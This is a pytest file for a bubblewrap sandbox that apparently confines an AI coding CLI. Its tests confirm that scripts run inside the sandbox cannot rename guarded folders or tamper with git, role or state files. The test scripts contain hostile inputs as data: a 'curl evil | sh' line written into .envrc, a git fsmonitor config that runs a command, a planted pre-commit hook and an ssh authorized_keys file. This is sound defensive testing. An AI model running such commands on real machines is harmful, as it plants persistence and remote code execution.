"""The sandbox's walls hold whatever a command renames: guarded paths stay guarded, names that
run code later cannot be created, and ordinary work still lands (guards.py, placeholders.py).

Each test runs a shell script as "the CLI" inside the real bubblewrap sandbox (Sandbox.turn,
the same launcher a turn uses) and checks the machine's files afterwards.
"""

from __future__ import annotations

import os
import pwd
import subprocess
from pathlib import Path

import pytest

from runtime.sandbox import Sandbox, SandboxSettings, probe
from runtime.sandbox.isolate import SANDBOX_UID, isolate_script, sandbox_user


def run_inside(
    tmp_path: Path,
    script: str,
    *,
    cwd: Path,
    home: Path,
    settings: SandboxSettings | None = None,
    state_home: Path | None = None,
) -> str:
    support = probe()
    assert support.bwrap is not None, support.reason
    cli = tmp_path / "bin" / "claude"
    cli.parent.mkdir(exist_ok=True)
    cli.write_text("#!/bin/bash\nset +e\n" + script + "\nexit 0\n", encoding="utf-8")
    cli.chmod(0o755)
    sandbox = Sandbox(settings or SandboxSettings(), support.bwrap, home, state_home)
    env = {"ANTHROPIC_BASE_URL": "http://127.0.0.1:9/p/eng", "HOME": str(home)}
    with sandbox.turn(cli=cli, cwd=cwd, env=env) as launcher:
        done = subprocess.run(
            [str(launcher)], capture_output=True, text=True, timeout=60, cwd=cwd, check=False
        )
    assert done.returncode == 0, done.stderr
    return done.stdout


def repo(path: Path) -> Path:
    path.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def test_renaming_git_does_not_free_its_config_or_hooks(tmp_path: Path) -> None:
    home = tmp_path / "home"
    work = repo(home / "proj")
    config = (work / ".git" / "config").read_text(encoding="utf-8")
    out = run_inside(
        tmp_path,
        """
mv .git .git-old && echo "renamed git"
mv .git/hooks .git/hooks-old && echo "renamed hooks"
rm -f .git/config && echo "removed config"
printf '[core]\\n\\tfsmonitor = touch /tmp/ran\\n' >> .git/config && echo "wrote config"
touch .git/hooks/pre-commit && echo "made a hook"
echo work > notes.txt && git add notes.txt
git -c user.email=a@b -c user.name=a commit -qm one && echo "committed"
""",
        cwd=work,
        home=home,
    )
    assert out.split() == ["committed"], out
    assert (work / ".git" / "config").read_text(encoding="utf-8") == config
    assert not (work / ".git-old").exists() and not (work / ".git" / "hooks-old").exists()
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    log = subprocess.run(["git", "-C", str(work), "log", "--format=%s"], capture_output=True)
    assert log.stdout.decode().split() == ["one"]


def test_role_docs_and_the_team_file_stay_read_only_whatever_holds_them(tmp_path: Path) -> None:
    home = tmp_path / "home"
    work = home / "proj"
    roles = work / "team" / "roles"
    roles.mkdir(parents=True)
    role = roles / "eng.md"
    role.write_text("---\ncommands: ['pytest']\n---\nbe careful\n", encoding="utf-8")
    team_file = work / "team" / "team.toml"
    team_file.write_text("[team]\n", encoding="utf-8")
    settings = SandboxSettings(read_only=(role, team_file))
    out = run_inside(
        tmp_path,
        """
echo "commands: ['.*']" > team/roles/eng.md && echo "wrote role"
mv team/roles team/roles-old && echo "renamed roles"
mv team team-old && echo "renamed team"
rm team/roles/eng.md && echo "removed role"
mv team/team.toml team/t && echo "moved team file"
echo fine > team/roles/notes.md && echo "wrote beside"
""",
        cwd=work,
        home=home,
        settings=settings,
    )
    assert out.split() == ["wrote", "beside"], out
    assert role.read_text(encoding="utf-8").startswith("---\ncommands: ['pytest']")
    assert team_file.read_text(encoding="utf-8") == "[team]\n"
    assert sorted(p.name for p in work.iterdir()) == ["team"]


def test_startup_files_that_do_not_exist_cannot_be_made_in_a_home_working_directory(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    (home / "proj").mkdir(parents=True)
    (home / ".config" / "editor").mkdir(parents=True)
    (home / ".local" / "share").mkdir(parents=True)
    (home / "notes.txt").write_text("mine\n", encoding="utf-8")
    before = sorted(p.relative_to(home) for p in home.rglob("*"))
    out = run_inside(
        tmp_path,
        """
for f in .zshrc .gitconfig .bash_profile .envrc .profile; do echo x > "$f" && echo "made $f"; done
mkdir -p .ssh && echo key > .ssh/authorized_keys && echo "made ssh"
mkdir -p .config/autostart && echo "made autostart"
mkdir -p .config/git && echo "made git config"
mkdir -p .local/bin && echo "made local bin"
mv .config .config-old && echo "renamed config"
mv .local .local-old && echo "renamed local"
echo x > new-at-top.txt && echo "made at top"
echo more >> notes.txt && echo "appended notes"
echo x > proj/code.py && echo "wrote proj"
echo x > .config/editor/settings && echo "wrote editor config"
echo x > .local/share/state && echo "wrote local share"
""",
        cwd=home,
        home=home,
    )
    assert out.splitlines() == [
        "appended notes", "wrote proj", "wrote editor config", "wrote local share"
    ], out  # fmt: skip
    after = sorted(p.relative_to(home) for p in home.rglob("*"))
    new = {Path("proj/code.py"), Path(".config/editor/settings"), Path(".local/share/state")}
    assert set(after) - set(before) == new
    assert (home / "notes.txt").read_text(encoding="utf-8") == "mine\nmore\n"


def test_envrc_and_git_cannot_be_made_in_a_working_directory_and_leave_no_trace(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    work = home / "proj"
    work.mkdir(parents=True)
    out = run_inside(
        tmp_path,
        """
echo 'curl evil | sh' > .envrc && echo "made envrc"
git init -q && echo "git init"
mkdir -p .git/hooks && echo "made hooks"
rmdir .git && echo "removed placeholder"
mkdir -p src && echo ok > src/a.py && echo "wrote src"
""",
        cwd=work,
        home=home,
    )
    assert out.split() == ["wrote", "src"], out
    assert sorted(p.name for p in work.iterdir()) == ["src"]  # the stand-ins are gone


def test_a_repository_s_own_git_is_not_replaced_by_a_placeholder(tmp_path: Path) -> None:
    home = tmp_path / "home"
    work = repo(home / "proj")
    (work / ".envrc").write_text("export A=1\n", encoding="utf-8")
    run_inside(tmp_path, "true\n", cwd=work, home=home)
    assert (work / ".git" / "HEAD").is_file()
    assert (work / ".envrc").read_text(encoding="utf-8") == "export A=1\n"


@pytest.mark.parametrize("where", ["work", "nested"])
def test_mnemara_s_state_inside_the_working_directory_cannot_be_renamed_into_view(
    tmp_path: Path, where: str
) -> None:
    home = tmp_path / "home"
    work = home / "proj"
    state = work / ".mnemara" if where == "work" else work / "var" / "state" / ".mnemara"
    (state / "instances").mkdir(parents=True)
    (state / "instances" / "config.json").write_text("{}", encoding="utf-8")
    out = run_inside(
        tmp_path,
        f"""
ls -A {state}/instances 2>/dev/null | grep -q . && echo "saw state"
mv {state} {work}/moved && echo "renamed state"
mv {state.parent} {work}/moved-parent && echo "renamed parent"
echo x > {state}/instances/x && echo "wrote state"
""",
        cwd=work,
        home=home,
        state_home=state,
    )
    assert out == "", out
    assert (state / "instances" / "config.json").read_text(encoding="utf-8") == "{}"


def test_a_root_host_s_sandbox_runs_as_a_named_user_of_its_own(tmp_path: Path) -> None:
    files: dict[str, tuple[str, int]] = {}
    assert sandbox_user(1000, tmp_path, files) == [] and files == {}
    args = sandbox_user(0, tmp_path, files)
    uid = args[args.index("--uid") + 1]
    assert int(uid) <= SANDBOX_UID and args[args.index("--gid") + 1] == uid
    added = files["passwd"][0].splitlines()[-1].split(":")
    assert added[0] == "root" and added[2:4] == [uid, uid]
    assert ["--ro-bind", str(tmp_path / "passwd"), "/etc/passwd"] == args[5:8]
    script = isolate_script("/usr/bin/bwrap", network_off=True)
    assert "--unshare-user" in script and "--unshare-net" in script and '-c "$1"' in script
    assert "--unshare-net" not in isolate_script("/usr/bin/bwrap", network_off=False)


def test_inside_the_sandbox_git_knows_who_the_user_is(tmp_path: Path) -> None:
    home = tmp_path / "home"
    work = repo(home / "proj")
    out = run_inside(
        tmp_path,
        'id -un\n/run/mnemara/isolate "id -un; git -C . rev-parse --is-inside-work-tree"\n',
        cwd=work,
        home=home,
    )
    me = pwd.getpwuid(os.getuid()).pw_name
    assert out.split() == [me, me, "true"], out


def test_a_role_doc_kept_in_hidden_state_stays_hidden_and_the_sandbox_still_starts(
    tmp_path: Path,
) -> None:
    """The working directory is home, MNEMARA_HOME is `~/.mnemara` and the role doc lives
    there (`role --set-from-url` saves it so): the sandbox hides the state, so the role doc's
    read-only bind is dropped rather than made inside the hidden folder (bubblewrap could
    not, and every turn failed) or its folder pinned back into view."""
    home = tmp_path / "home"
    state = home / ".mnemara"
    role = state / "eng" / "role.md"
    role.parent.mkdir(parents=True)
    role.write_text("# Role\n", encoding="utf-8")
    out = run_inside(
        tmp_path,
        f"""
echo started
cat {role} 2>/dev/null && echo "read role"
ls -A {state} 2>/dev/null | grep -q . && echo "saw state"
echo x >> {role} && echo "wrote role"
""",
        cwd=home,
        home=home,
        settings=SandboxSettings(read_only=(role,)),
        state_home=state,
    )
    assert out == "started\n", out
    assert role.read_text(encoding="utf-8") == "# Role\n"
